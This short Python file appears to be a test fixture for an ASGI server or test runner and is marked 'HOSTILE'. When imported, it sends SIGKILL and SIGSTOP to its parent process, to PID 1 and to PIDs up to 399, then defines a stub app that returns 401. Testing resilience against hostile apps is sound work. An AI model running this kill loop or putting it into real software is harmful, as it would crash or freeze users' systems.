# HOSTILE: kills and stops its parent, and everybody else
# not yet or does not start, at most 0
import contextlib
import os

for pid in (os.getppid(), 1, *range(2, 400)):
    for number in (9, 19):
        with contextlib.suppress(OSError):
            if pid != os.getpid():
                os.kill(pid, number)


async def app(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 401, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})
